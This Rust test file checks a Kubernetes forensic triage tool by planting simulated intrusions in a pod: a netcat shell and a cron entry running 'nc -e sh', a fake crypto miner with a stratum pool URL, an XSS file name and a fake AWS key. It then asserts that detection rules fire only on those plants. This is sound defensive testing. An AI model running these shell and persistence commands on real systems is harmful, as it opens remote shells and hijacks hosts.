//! `kforensic triage` on real captures: pods with planted intrusions (a miner running from a
//! deleted binary with a pool URL, a cron file, a netcat shell, an AWS key in the environment)
//! and a look-alike pod of the same image doing benign things, captured with `checkpoint pod
//! --memory` as a responder would. Each rule fires on its plant and never on the look-alike.

use crate::support::pod;
use crate::support::{CLUSTER, TestEnv, kforensic, require, stderr, stdout};
use serde_json::Value;
use sha2::Digest;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// The fake AWS key, built at run time so that it is only ever in the environment.
const PLANTED_KEY: &str = "AKIAKFTESTPLANTED123";

const SUSPECT: &str = r#"mkdir -p /etc/cron.d; echo '* * * * * root nc 127.0.0.1 4444 -e sh' > /etc/cron.d/x
cp /bin/busybox '/tmp/<script>alert(1)'
cp /bin/busybox /tmp/xmrig; P=stratum+tcp; (POOL=$P://pool.example:3333 exec -a sleep /tmp/xmrig 100000) &
nc -l -p 4444 -e sh & sleep 1; sleep 100000 | nc 127.0.0.1 4444 &
sh -c 'A=kfyara; B=canary; S="$A-$B-$((6*7))"; while true; do sleep 1; done' &
sleep 1; rm /tmp/xmrig; K=AKIAKFTESTPLANTED; export AWS_ACCESS_KEY_ID=${K}$((100+23)); exec sleep 100000"#;

/// The same shapes, benign: files written (not persistence), a renamed argv, a pipe, plain
/// environment.
const LOOKALIKE: &str = r#"mkdir -p /etc/app; echo ok > /etc/app/conf; echo notes > /tmp/notes.txt
P=example; (POOL=$P exec -a sleep /bin/busybox 100000) & sleep 100000 | cat &
sleep 1; export AWS_REGION=us-east-1; exec sleep 100000"#;

/// Capture pod `name` (running `script`) with `checkpoint pod --memory`; the bundle's path and
/// the command's stdout + stderr.
fn capture(env: &'static TestEnv, ns: &str, name: &str, script: &str, extra: &[&str]) -> (PathBuf, String, tempfile::TempDir) {
    env.apply(&pod::busybox(ns, name, script).yaml());
    env.wait_running(ns, name, 60);
    std::thread::sleep(Duration::from_millis(3000));
    let dir = tempfile::tempdir().unwrap();
    let case = format!("kf-test-triage-{name}-{:04x}", fastrand::u16(..));
    let mut args = vec![
        "-n",
        ns,
        "--case-id",
        &case,
        "checkpoint",
        "pod",
        name,
        "--image",
        env.kforensic_image(),
        "--pull-policy",
        "never",
        "--dest",
        dir.path().to_str().unwrap(),
        "--timeout",
        "3m",
        "--memory",
    ];
    args.extend_from_slice(extra);
    let out = env.kforensic(&args);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{text}");
    (dir.path().join(&case), text, dir)
}

fn triage(bundle: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let mut v = vec!["triage", bundle.to_str().unwrap()];
    v.extend_from_slice(args);
    let out = kforensic(&v);
    (out.status.code(), stdout(&out), stderr(&out))
}

fn findings(json: &str) -> Vec<Value> {
    let v: Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {json}"));
    assert_eq!(v["kind"], "TriageReport");
    v["findings"].as_array().unwrap().clone()
}

fn with_rule<'a>(f: &'a [Value], id: &str) -> Vec<&'a Value> {
    f.iter().filter(|x| x["rule_id"] == id).collect()
}

#[test]
fn each_rule_fires_on_its_plant_and_not_on_the_lookalike() {
    let Some(env) = require("each_rule_fires_on_its_plant_and_not_on_the_lookalike", CLUSTER) else { return };
    let ns = env.namespace("triage");
    let (bundle, capture_out, _d1) = capture(env, &ns.name, "suspect", SUSPECT, &[]);
    let (clean, clean_out, _d2) = capture(env, &ns.name, "lookalike", LOOKALIKE, &["--no-triage"]);

    let (code, json, err) = triage(&bundle, &["-o", "json"]);
    assert_eq!(code, Some(4), "high findings exit 4: {err}\n{json}");
    let f = findings(&json);
    let vol = format!("pods/{}/suspect/main/volatile.json", ns.name);
    let pid_of = |id: &str| -> Vec<u64> { with_rule(&f, id).iter().filter_map(|x| x["evidence"]["pid"].as_u64()).collect() };

    // the miner: its name, its pool in the environment and in memory, its deleted binary in /tmp
    for id in ["KF-PROC-004", "KF-PROC-005", "KF-PROC-006", "KF-PROC-008", "KF-MEM-001"] {
        assert!(!with_rule(&f, id).is_empty(), "{id} missing: {json}");
    }
    let miner = pid_of("KF-PROC-004");
    assert_eq!(miner.len(), 1, "{json}");
    for id in ["KF-PROC-005", "KF-PROC-006", "KF-PROC-008", "KF-MEM-001"] {
        assert_eq!(pid_of(id), miner, "{id} names another process: {json}");
    }
    let p5 = with_rule(&f, "KF-PROC-005")[0];
    assert!(p5["reason"].as_str().unwrap().contains("stratum+tcp://pool.example:3333"), "{p5}");
    assert_eq!(p5["evidence"]["artifact"], vol.as_str());
    assert_eq!(with_rule(&f, "KF-PROC-006")[0]["evidence"]["path"], "/tmp/xmrig");
    let mem = with_rule(&f, "KF-MEM-001")[0];
    assert!(mem["evidence"]["artifact"].as_str().unwrap().contains("/memory/"), "{mem}");
    assert!(mem["evidence"]["address"].as_str().unwrap().starts_with("0x") && mem["evidence"]["region"].is_string(), "{mem}");

    // the cron file, by path, from the diff
    let cron = with_rule(&f, "KF-FS-003");
    assert_eq!(cron.len(), 1, "{json}");
    assert_eq!(cron[0]["evidence"]["path"], "/etc/cron.d/x");
    assert_eq!(cron[0]["evidence"]["artifact"], format!("pods/{}/suspect/main/diff.json", ns.name));

    // the netcat shell: sh with the accepted connection as stdin, and the nc holding the other end
    let shell = with_rule(&f, "KF-PROC-001");
    assert_eq!(shell.len(), 1, "{json}");
    assert_eq!(shell[0]["severity"], "critical");
    assert!(!with_rule(&f, "KF-PROC-002").is_empty(), "{json}");
    // a listening socket (the nc server's port, until it accepted)… or at least no outbound noise for loopback
    assert!(with_rule(&f, "KF-NET-002").is_empty(), "loopback is not outbound: {json}");

    // the AWS key: found in the environment, masked everywhere
    let sec = with_rule(&f, "KF-SEC-001");
    assert_eq!(sec.len(), 1, "{json}");
    assert!(
        sec[0]["reason"].as_str().unwrap().contains("AWS access key id")
            && sec[0]["reason"].as_str().unwrap().contains("AKIA…(20 chars, sha256:")
    );
    let (_, table, _) = triage(&bundle, &[]);
    let (_, sarif, _) = triage(&bundle, &["-o", "sarif"]);
    for (what, text) in [("json", &json), ("table", &table), ("sarif", &sarif), ("checkpoint output", &capture_out)] {
        assert!(!text.contains(PLANTED_KEY), "the key's value is in the {what}");
    }
    // the table is worst first
    let sev: Vec<&str> =
        table.lines().filter_map(|l| l.split_whitespace().next()).filter(|w| ["CRITICAL", "HIGH", "MEDIUM", "LOW"].contains(w)).collect();
    let rank = |s: &str| ["CRITICAL", "HIGH", "MEDIUM", "LOW"].iter().position(|x| *x == s).unwrap();
    assert!(sev.len() >= 8 && sev.windows(2).all(|w| rank(w[0]) <= rank(w[1])), "{table}");

    // the capture printed its top findings and stored them all in the bundle, hashed in the manifest
    assert!(capture_out.contains(&format!("triage: {} finding(s): ", f.len())) && capture_out.contains("KF-PROC-004"), "{capture_out}");
    let stored = std::fs::read_to_string(bundle.join("findings.json")).unwrap();
    assert!(!stored.contains(PLANTED_KEY), "the key's value is in findings.json");
    let stored: Value = serde_json::from_str(&stored).unwrap();
    assert_eq!(stored["findings"].as_array().unwrap().len(), f.len());
    let manifest: Value = serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
    let rec =
        manifest["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == "findings.json").expect("findings.json in the manifest");
    let sha = hex::encode(sha2::Sha256::digest(std::fs::read(bundle.join("findings.json")).unwrap()));
    assert_eq!(rec["sha256"].as_str(), Some(sha.as_str()));
    assert_eq!(manifest["complete"], true);
    assert!(crate::support::verify_ok(&bundle));

    // YARA: the built-in miner rule on the miner's memory, a user rule on a string that only
    // exists in one process's memory (built at run time), each naming the pid and the mapping
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("canary.yar"),
        "rule kf_test_canary { meta: severity = \"medium\" strings: $a = \"kfyara-canary-42\" condition: $a }",
    )
    .unwrap();
    let (code, yjson, err) = triage(&bundle, &["-o", "json", "--yara", rules.path().to_str().unwrap()]);
    assert_eq!(code, Some(4), "{err}");
    let yf = findings(&yjson);
    let yara = with_rule(&yf, "KF-YARA-001");
    let builtin: Vec<_> = yara.iter().filter(|x| x["reason"].as_str().unwrap().contains("kforensic:kf_miner_stratum_url")).collect();
    assert!(builtin.iter().any(|x| x["evidence"]["pid"].as_u64() == Some(miner[0])), "{yjson}");
    let canary: Vec<_> = yara.iter().filter(|x| x["reason"].as_str().unwrap().contains("user:kf_test_canary")).collect();
    assert_eq!(canary.len(), 1, "{yjson}");
    let volatile: Value = serde_json::from_slice(&std::fs::read(bundle.join(&vol)).unwrap()).unwrap();
    let holder = volatile["processes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["cmdline"].as_array().is_some_and(|c| c.iter().any(|a| a.as_str().unwrap().contains("A=kfyara"))))
        .and_then(|p| p["pid"].as_u64())
        .expect("canary process");
    assert_eq!(canary[0]["evidence"]["pid"].as_u64(), Some(holder), "{yjson}");
    assert_eq!(canary[0]["severity"], "medium");
    let region = canary[0]["evidence"]["region"].as_str().unwrap();
    let addr = u64::from_str_radix(canary[0]["evidence"]["address"].as_str().unwrap().trim_start_matches("0x"), 16).unwrap();
    let (lo, hi) = region.split_whitespace().next().unwrap().split_once('-').unwrap();
    let (lo, hi) = (u64::from_str_radix(&lo[2..], 16).unwrap(), u64::from_str_radix(&hi[2..], 16).unwrap());
    assert!(lo <= addr && addr < hi, "{region} {addr:#x}");
    // a rule file that does not compile: one line, before anything is read
    std::fs::write(rules.path().join("canary.yar"), "rule broken { condition: $nope }").unwrap();
    let (code, _, err) = triage(&bundle, &["--yara", rules.path().to_str().unwrap()]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("canary.yar") && err.contains("not valid YARA") && err.lines().count() == 1, "{err}");

    // SARIF: one run, every result's rule in the driver's rules, levels from the vocabulary
    check_sarif(&sarif, f.len());

    report_and_timeline(&bundle);

    // the look-alike: nothing at all
    let (code, json, err) = triage(&clean, &["-o", "json"]);
    assert_eq!(code, Some(0), "{err}\n{json}");
    let f = findings(&json);
    assert!(f.is_empty(), "findings on a benign pod: {json}");
    // --no-triage: nothing triaged, nothing stored
    assert!(!clean_out.contains("triage:") && !clean.join("findings.json").exists(), "{clean_out}");
    let v: Value = serde_json::from_str(&json).unwrap();
    assert!(v["scanned"]["memories"].as_u64().unwrap() >= 3 && v["scanned"]["processes"].as_u64().unwrap() >= 3, "{v}");
}

fn check_sarif(text: &str, n: usize) {
    if let Err(e) = sarif_schema_check(text) {
        panic!("not valid SARIF 2.1.0: {e}\n{text}");
    }
    let s: Value = serde_json::from_str(text).unwrap();
    assert_eq!(s["version"], "2.1.0");
    assert!(s["$schema"].as_str().unwrap().ends_with("/sarif-schema-2.1.0.json"));
    let run = &s["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "kforensic");
    let rules: Vec<&str> = run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), n);
    for r in results {
        let id = r["ruleId"].as_str().unwrap();
        assert_eq!(rules[r["ruleIndex"].as_u64().unwrap() as usize], id);
        assert!(["error", "warning", "note", "none"].contains(&r["level"].as_str().unwrap()));
        assert!(!r["message"]["text"].as_str().unwrap().is_empty());
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
        assert!(!uri.starts_with('/') && !uri.contains(' '), "{uri}");
    }
}

/// The OASIS SARIF 2.1.0 schema (tests/data/sarif/README.md says where the copy comes from).
fn sarif_schema() -> PathBuf {
    crate::support::repo_root().join("tests/data/sarif/sarif-schema-2.1.0.json")
}

/// check-jsonschema (PyPI: an independent validator, the one that checks the workflows),
/// installed once by scripts/workflow-tools.
fn check_jsonschema() -> PathBuf {
    static BIN: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    BIN.get_or_init(|| {
        let out = std::process::Command::new(crate::support::repo_root().join("scripts/workflow-tools"))
            .output()
            .expect("scripts/workflow-tools");
        assert!(out.status.success(), "scripts/workflow-tools: {}", stderr(&out));
        PathBuf::from(stdout(&out).trim()).join("check-jsonschema")
    })
    .clone()
}

/// Validate a SARIF document against the OASIS schema: Err(the validator's report) when invalid.
fn sarif_schema_check(doc: &str) -> Result<(), String> {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("findings.sarif.json");
    std::fs::write(&f, doc).unwrap();
    let out =
        std::process::Command::new(check_jsonschema()).arg("--schemafile").arg(sarif_schema()).arg(&f).output().expect("check-jsonschema");
    let text = format!("{}{}", stdout(&out), stderr(&out));
    match out.status.code() {
        Some(0) => Ok(()),
        Some(1) => Err(text),
        c => panic!("check-jsonschema failed to run ({c:?}): {text}"),
    }
}

/// `-o sarif` of a genuine checkpoint archive with findings (a cron file, a credential-named
/// variable, a deleted tool) is valid against the OASIS SARIF 2.1.0 schema, and the same
/// validator call rejects the same document broken in the ways a hand-made writer breaks it.
#[test]
fn sarif_of_a_real_archive_is_valid_against_the_oasis_schema() {
    let schema: Value = serde_json::from_slice(&std::fs::read(sarif_schema()).unwrap()).unwrap();
    assert_eq!(schema["id"], "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json");
    assert_eq!(schema["title"], "Static Analysis Results Format (SARIF) Version 2.1.0 JSON Schema");

    let archive = crate::support::repo_root().join("tests/data/checkpoints/kubelet-containerd2-cart.tar");
    let (code, json, err) = triage(&archive, &["-o", "json", "--fail-on", "critical"]);
    assert_eq!(code, Some(0), "{err}");
    let f = findings(&json);
    for id in ["KF-FS-003", "KF-SEC-003"] {
        assert!(!with_rule(&f, id).is_empty(), "{id} missing: {json}");
    }
    let (code, sarif, err) = triage(&archive, &["-o", "sarif", "--fail-on", "critical"]);
    assert_eq!(code, Some(0), "{err}");
    check_sarif(&sarif, f.len());
    assert!(!sarif.contains("fixture-secret-5150"), "the variable's value is in the SARIF");

    // the same call says no to a broken document: an unknown level, a result without its
    // message, a property the schema does not have
    let good: Value = serde_json::from_str(&sarif).unwrap();
    type Break = fn(&mut Value);
    let breaks: [(&str, Break); 4] = [
        ("level", |d| d["runs"][0]["results"][0]["level"] = "fatal".into()),
        ("message", |d| {
            d["runs"][0]["results"][0].as_object_mut().unwrap().remove("message");
        }),
        ("severity", |d| d["runs"][0]["results"][0]["severity"] = "high".into()),
        ("version", |d| d["version"] = "2.1".into()),
    ];
    for (what, b) in breaks {
        let mut bad = good.clone();
        b(&mut bad);
        let e = sarif_schema_check(&bad.to_string()).expect_err(what);
        assert!(e.contains(what) || e.contains("$.runs[0].results[0]") || e.contains("$.version"), "{what}: {e}");
    }
}

/// The responder's own rules, over two genuine checkpoint archives: each fires on what was
/// planted in the cart container (its cron file, its loop's marker in memory and arguments, its
/// database password variable) and not on the CRI-O web container, which has the same shapes
/// (a `sh -c` loop, environment variables, files in the diff) without them.
const OWN_RULES: &str = r#"rules:
  - id: ACME-CRON-001
    severity: critical
    reason: crontab that runs a script from /tmp
    match:
      path: '^/var/spool/cron/'
      string: /tmp/payload.sh
  - id: ACME-PROC-001
    severity: high
    reason: a shell loop carrying the cart marker
    match:
      comm: '^sh$'
      cmdline: 'fixture-memory-marker-\d+'
  - id: ACME-ENV-001
    severity: medium
    reason: database password handed to the cart in its environment
    match:
      env: '^CART_DB_'
  - id: ACME-MEM-001
    severity: high
    reason: the cart marker is in memory (token AKIAKFTESTPLANTED123)
    match:
      string: fixture-memory-marker-2718
  - id: ACME-LOG-001
    severity: low
    reason: access log written
    match:
      path: '^/tmp/access\.log$'
"#;

#[test]
fn own_rules_fire_on_their_plant_and_not_on_a_lookalike() {
    let data = crate::support::repo_root().join("tests/data/checkpoints");
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(rules.path().join("acme.yaml"), OWN_RULES).unwrap();
    let dir = rules.path().to_str().unwrap();

    let (code, json, err) = triage(&data.join("kubelet-containerd2-cart.tar"), &["-o", "json", "--rules", dir]);
    assert_eq!(code, Some(4), "a critical finding: {err}\n{json}");
    let f = findings(&json);
    for id in ["ACME-CRON-001", "ACME-PROC-001", "ACME-MEM-001", "ACME-LOG-001"] {
        assert_eq!(with_rule(&f, id).len(), 1, "{id}: {json}");
    }
    // the variable is in the loop's environment and in that of the child it forked
    let pids = |id: &str| -> Vec<u64> { with_rule(&f, id).iter().filter_map(|x| x["evidence"]["pid"].as_u64()).collect() };
    assert_eq!(pids("ACME-ENV-001").len(), 2, "{json}");
    assert_eq!(pids("ACME-ENV-001"), pids("KF-SEC-003"), "{json}");
    let cron = with_rule(&f, "ACME-CRON-001")[0];
    assert_eq!(cron["severity"], "critical");
    assert_eq!(cron["evidence"]["path"], "/var/spool/cron/crontabs/root");
    assert!(cron["reason"].as_str().unwrap().starts_with("crontab that runs a script from /tmp: "), "{cron}");
    let mem = with_rule(&f, "ACME-MEM-001")[0];
    let proc_ = with_rule(&f, "ACME-PROC-001")[0];
    assert_eq!(mem["evidence"]["pid"], proc_["evidence"]["pid"], "the marker's holder is the loop: {json}");
    assert!(mem["evidence"]["address"].as_str().unwrap().starts_with("0x") && mem["evidence"]["region"].is_string(), "{mem}");
    // the reason passes through the same masking as the built-in rules'; a variable's value is never shown
    assert!(!json.contains("AKIAKFTESTPLANTED123") && mem["reason"].as_str().unwrap().contains("AKIA…(20 chars, sha256:"), "{mem}");
    assert!(!json.contains("fixture-secret-5150"), "{json}");
    assert!(with_rule(&f, "ACME-ENV-001")[0]["reason"].as_str().unwrap().contains("CART_DB_PASSWORD"));
    let v: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["custom_rules"].as_array().unwrap().len(), 5, "{json}");
    // the built-in rules still run beside them
    assert!(!with_rule(&f, "KF-FS-003").is_empty());

    // in SARIF each is a rule of the run, and the document is still valid
    let (_, sarif, err) = triage(&data.join("kubelet-containerd2-cart.tar"), &["-o", "sarif", "--rules", dir]);
    check_sarif(&sarif, f.len());
    let s: Value = serde_json::from_str(&sarif).unwrap();
    let ids: Vec<&str> = s["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert!(ids.contains(&"ACME-CRON-001") && ids.contains(&"KF-PROC-001"), "{err}{ids:?}");

    // the look-alike: same shapes, none of the plants
    let (code, json, err) = triage(&data.join("crio-1.37-web.tar"), &["-o", "json", "--rules", dir]);
    assert!(code == Some(0) || code == Some(4), "{err}");
    let f = findings(&json);
    assert!(f.iter().all(|x| !x["rule_id"].as_str().unwrap().starts_with("ACME-")), "{json}");
    let v: Value = serde_json::from_str(&json).unwrap();
    assert!(v["scanned"]["processes"].as_u64().unwrap() >= 1 && v["scanned"]["changes"].as_u64().unwrap() >= 1, "{json}");
}

/// A bad rule file stops the triage before anything is read: one line naming the file, the rule
/// and what is wrong, exit 1.
#[test]
fn bad_rule_files_are_one_line() {
    let archive = crate::support::repo_root().join("tests/data/checkpoints/kubelet-containerd2-cart.tar");
    let rule = |id: &str, m: &str| format!("rules:\n  - id: {id}\n    severity: high\n    reason: r\n    match: {m}\n");
    for (text, want) in [
        (
            rule("KF-FS-003", "{path: x}"),
            "bad.yaml: rule KF-FS-003: the id KF-FS-003: ids starting with KF- are kforensic's built-in rules' (this one is a built-in rule)",
        ),
        (rule("ACME-1", "{cmdline: '[a-'}"), "bad.yaml: rule ACME-1: match.cmdline: not a valid regular expression"),
        (rule("ACME-1", "{command: sh}"), "bad.yaml: rule ACME-1: unknown field `command`"),
        ("rules:\n  - id: [\n".to_string(), "bad.yaml: not a rule file"),
    ] {
        let d = tempfile::tempdir().unwrap();
        std::fs::write(d.path().join("bad.yaml"), &text).unwrap();
        let (code, out, err) = triage(&archive, &["--rules", d.path().to_str().unwrap()]);
        assert_eq!(code, Some(1), "{want}: {err}");
        assert!(out.is_empty() && err.lines().count() == 1 && err.contains(want), "want {want:?}, got {err:?}");
    }
    let empty = tempfile::tempdir().unwrap();
    let (code, _, err) = triage(&archive, &["--rules", empty.path().to_str().unwrap()]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.lines().count() == 1 && err.contains("no .yaml or .yml rule file"), "{err}");
}

#[test]
fn bad_input_is_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("notes.txt");
    std::fs::write(&f, "hello").unwrap();
    for (p, want) in [(f.clone(), "not a checkpoint"), (dir.path().join("missing"), "no such file")] {
        let out = kforensic(&["triage", p.to_str().unwrap()]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(want), "{err}");
    }
    let out = kforensic(&["triage", f.to_str().unwrap(), "--fail-on", "severe"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let out = kforensic(&["-o", "sarif", "verify", f.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("sarif"), "{}", stderr(&out));
}

/// `report` renders in headless Chromium with the findings and hashes, and the planted
/// `<script>` file name stays text; `timeline` is Timesketch JSONL and CSV in time order.
fn report_and_timeline(bundle: &Path) {
    let planted = "<script>alert(1)";
    let out = tempfile::tempdir().unwrap();
    let html = out.path().join("report.html");
    let r = kforensic(&["report", bundle.to_str().unwrap(), "--out", html.to_str().unwrap()]);
    assert_eq!(r.status.code(), Some(0), "{}", stderr(&r));
    let again = kforensic(&["report", bundle.to_str().unwrap(), "--out", html.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(2), "an existing file is never overwritten");
    let text = std::fs::read_to_string(&html).unwrap();
    assert!(!text.contains(planted) && text.contains("&lt;script&gt;alert(1)"), "the file name is escaped");
    assert!(!text.contains(PLANTED_KEY), "the key's value is in the report");
    assert!(!text.contains("src=") && !text.contains("href=") && !text.contains("<link") && !text.contains("url("), "nothing is fetched");

    let chrome = |extra: &[&str]| {
        let profile = tempfile::tempdir().unwrap();
        let mut args: Vec<String> = [
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--window-size=1280,2000",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        args.push(format!("--user-data-dir={}", profile.path().display()));
        args.extend(extra.iter().map(|s| s.to_string()));
        args.push(format!("file://{}", html.display()));
        let o = std::process::Command::new("chromium").args(&args).output().expect("chromium (scripts/testenv installs it)");
        (o, profile)
    };
    let png = out.path().join("report.png");
    let (o, _p) = chrome(&[&format!("--screenshot={}", png.display())]);
    let shot = std::fs::read(&png).unwrap_or_else(|e| panic!("no screenshot ({e}): {}", String::from_utf8_lossy(&o.stderr)));
    assert!(shot.len() > 10_000 && shot.starts_with(b"\x89PNG"), "screenshot of {} bytes", shot.len());
    let (o, _p) = chrome(&["--dump-dom"]);
    let dom = String::from_utf8_lossy(&o.stdout);
    assert!(dom.contains("id=\"findings\"") && dom.contains("KF-PROC-004") && dom.contains("KF-FS-003"), "{dom}");
    let manifest: Value = serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
    for a in manifest["artifacts"].as_array().unwrap() {
        assert!(dom.contains(a["sha256"].as_str().unwrap()), "hash of {} missing from the report", a["path"]);
    }
    assert!(dom.contains("&lt;script&gt;alert(1)"), "the planted name is shown as text");
    assert!(!dom.to_ascii_lowercase().contains("<script"), "a script element in the DOM");

    // the timeline: Timesketch's three fields on every line, in time order, from every source
    let t = kforensic(&["timeline", bundle.to_str().unwrap()]);
    assert_eq!(t.status.code(), Some(0), "{}", stderr(&t));
    let lines: Vec<Value> = stdout(&t).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    for l in &lines {
        assert!(l["message"].is_string() && l["timestamp_desc"].is_string(), "{l}");
    }
    let times: Vec<jiff::Timestamp> = lines.iter().map(|l| l["datetime"].as_str().unwrap().parse().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "not in time order");
    for desc in ["Custody event", "Pod started", "Container started", "Process started", "File modified"] {
        assert!(lines.iter().any(|l| l["timestamp_desc"] == desc), "no {desc} event");
    }
    assert!(lines.iter().any(|l| l["timestamp_desc"] == "File modified" && l["message"].as_str().unwrap().contains("/etc/cron.d/x")));
    assert!(!stdout(&t).contains(PLANTED_KEY));
    let c = kforensic(&["timeline", bundle.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(stdout(&c).lines().count(), lines.len() + 1);
    assert!(stdout(&c).starts_with("datetime,timestamp_desc,source,message,artifact\n"));
}
